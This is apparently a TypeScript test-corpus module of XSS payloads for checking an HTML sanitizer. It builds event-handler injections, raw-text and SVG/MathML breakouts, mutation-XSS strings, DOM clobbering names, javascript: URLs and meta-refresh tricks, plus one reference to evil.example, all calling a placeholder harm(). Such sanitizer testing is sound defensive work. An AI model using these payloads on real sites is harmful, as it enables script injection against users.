import { combine } from './combine.js';

const ELEMENTS =
  'a abbr address area article aside audio b base bdo blockquote body button canvas caption center cite code custom-element data dd del details dfn dialog div dl dt em embed fieldset figure footer form frameset h1 h3 header hr html i iframe img input ins kbd label legend li link main map mark marquee menu meter nav object ol option p pre progress q s samp search section select small source span strong sub summary sup table tbody td textarea th time tr track u ul var video';
const HANDLERS =
  'onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforeinput onbeforematch onbeforeprint onbeforetoggle onbeforeunload onbegin onblur oncancel oncanplay onchange onclick onclose oncommand oncontentvisibilityautostatechange oncontextlost oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragstart ondrop onemptied onend onended onerror onfocus onfocusin onformdata onfullscreenchange ongotpointercapture onhashchange oninput oninvalid onkeydown onload onloadeddata onloadstart onmessage onmousedown onmouseenter onmouseover onmousewheel onpagehide onpageshow onpaste onplay onpointerdown onpointerenter onpointerrawupdate onpopstate onprogress onpropertychange onrepeat onreset onresize onscroll onscrollend onscrollsnapchange onsearch onsecuritypolicyviolation onselect onselectionchange onselectstart onslotchange onstart onstorage onsubmit ontimeupdate ontoggle ontouchstart ontransitioncancel ontransitionend ontransitionrun onunhandledrejection onunload onwaiting onwebkitanimationstart onwheel onzoom';
const IMAGE = '<img src=x onerror=harm()>';
const RAW = 'iframe noembed noframes noscript plaintext script style template textarea title xmp';

/** Elements, handlers, and ways to part and to quote them. */
export const handlers: readonly string[] = [
  ...combine('<{el} onclick=harm() onpointerenter="harm()">a</{el}>', { el: ELEMENTS }),
  ...combine('<b {handler}="harm()">a</b>', { handler: HANDLERS }),
  ...combine('<img{gap}src=x{gap}onerror={quoted}>', {
    gap: ['\t', '\r\n', '\f', '//', ' / ', '/\u0000/', '"', "'", '`', '=', ' x=" "', "\u00a0'"],
    quoted: ['harm()', '"harm()"', "'harm()'", '`harm()`'],
  }),
  ...combine('<p {name}=harm() tabindex=0 autofocus>a</p>', {
    name: [
      'ONCLICK',
      'oNfOcUs',
      'on\u0130click',
      'on&#99;lick',
      'on-click',
      'on:click',
      '(click)',
      '[onclick]',
      'x:onclick',
      'xlink:onclick',
      'onclick\u00a0',
      '\u000bonclick',
      'data-onclick',
      'on\u00adclick',
      'o\u200bnclick',
    ],
  }),
];

/** Elements whose content is no markup, broken out of and into. */
export const rawText: readonly string[] = combine('<{raw}>{inner}</{raw}>b', {
  inner: [
    IMAGE,
    `</{raw}${IMAGE}`,
    `</{raw} >${IMAGE}<{raw}>`,
    `<!--</{raw}>${IMAGE}-->`,
    `<p title="</{raw}>${IMAGE}">`,
    `<{raw}></{raw}>${IMAGE}`,
    `</{raw}/>${IMAGE}`,
    `<svg><{raw}>${IMAGE}</{raw}></svg>`,
  ],
  raw: RAW,
});

/** Drawings and formulas, and the places in them where HTML begins again. */
export const namespaces: readonly string[] = [
  ...combine('<svg><{point}>{inner}</{point}></svg>a', {
    point:
      'a animate animateMotion animateTransform audio desc discard feImage filter font-face-uri foreignObject g handler iframe image linearGradient metadata mpath script set style switch symbol text title use video view',
    inner: [IMAGE, '<b onclick=harm()>b', '<style><!--</style><img src=x onerror=harm()>-->'],
  }),
  ...combine('<math><{point}>{inner}</{point}></math>a', {
    point:
      'annotation annotation-xml maction malignmark mfrac mglyph mi mn mo mpadded mroot ms mspace msqrt mstyle mtable mtd mtext semantics',
    inner: [IMAGE, '<a href="javascript:harm()">b', '<table><mglyph><style><!--</style><img src=x onerror=harm()>-->'],
  }),
  ...combine('<svg><{el} attributeName={name} {what}="javascript:harm()" begin=0s /></svg>', {
    el: 'animate set',
    name: 'href xlink:href onclick style',
    what: 'to values from',
  }),
];

/** Trees that a parser mends one way, and another way the second time. */
export const mutations: readonly string[] = [
  ...combine('<{outer}><{inner}><style><!--</style><img title="--&gt;&lt;img src=x onerror=harm()&gt;">', {
    outer: 'form table select p a nobr h1 button li dd option',
    inner: 'math svg mtext mglyph form table select',
  }),
  ...combine('<{el} title="</{el}><img src=x onerror=harm()>">a</{el}>', {
    el: 'a b blockquote code div form p pre q select span svg table td ul x-y',
  }),
  ...combine('<p {name}={value}>a</p>', {
    name: 'title alt lang dir cite class datetime',
    value: [
      '"&quot; onclick=harm() x=&quot;"',
      "'&apos; onclick=harm() x=&apos;'",
      '``onclick=harm()',
      '"&lt;/p&gt;&lt;img src=x onerror=harm()&gt;"',
    ],
  }),
];

/** What would take the place of the page's own things. */
export const clobbering: readonly string[] = [
  ...combine('<a id={name} name={name} href="https://a.example/">a</a>', {
    name: 'alert anchors attributes body cid children cookie comment-1 comments constructor currentScript customElements defaultView documentElement domain embeds firstChild fetch forms gedanken getElementById hasOwnProperty head host images innerHTML links localStorage location nodeName ownerDocument parent plugins querySelector respond scripts self title toString top trustedTypes window __proto__',
  }),
  ...combine('<{el} {attribute}={name}>a</{el}>', {
    el: 'img form object embed p output',
    attribute: 'id name',
    name: 'body shadowRoot adapter',
  }),
  ...combine('<b {attribute}>a</b>', {
    attribute:
      'part=comment slot=fallback exportparts=x is=gedanken-comments class=badge for=x headers=x list=x form=x aria-labelledby=x aria-controls=x anchor=x itemid=x itemref=x itemprop=author usemap=#x popover=manual elementtiming=x nonce=x key=x ref=x',
  }),
];

/** Pages, forms and other things to act with, within the page. */
export const acting: readonly string[] = [
  ...combine('<{el} {attribute}={value}>a</{el}>', {
    el: 'form button input iframe frame object embed portal fencedframe webview',
    attribute: 'src data action formaction srcdoc',
    value: ['"javascript:harm()"', '"data:text/html,<script>parent.harm()</script>"'],
  }),
  ...combine('<meta http-equiv={what} content="{content}">a', {
    what: 'refresh set-cookie content-security-policy x-dns-prefetch-control default-style delegate-ch origin-trial',
    content: ['0;url=javascript:harm()', "default-src 'none'"],
  }),
  ...combine('<{el} {attribute}>a</{el}>', {
    el: 'p dialog',
    attribute:
      'open popover autofocus contenteditable draggable=true accesskey=s tabindex=1 inert hidden hidden=until-found commandfor=x command=show-modal popovertarget=x interestfor=x interesttarget=x invoketarget=x virtualkeyboardpolicy=manual writingsuggestions=true focusgroup scrolltarget=x',
  }),
  ...combine('<template {attribute}><img src=x onerror=harm()></template>a', {
    attribute:
      'shadowrootmode=open shadowrootmode=closed shadowroot=open for=x for=head contentmethod=replace-children contentmethod=append patchsrc=https://evil.example/ buffer shadowrootclonable shadowrootserializable shadowrootcustomelementregistry',
  }),
  ...combine('<?{target} {data}?><img src=x onerror=harm()><?end?>', {
    target: 'start marker xml xml-stylesheet php',
    data: ['', 'name="x"', 'href="javascript:harm()"', '>'],
  }),
];
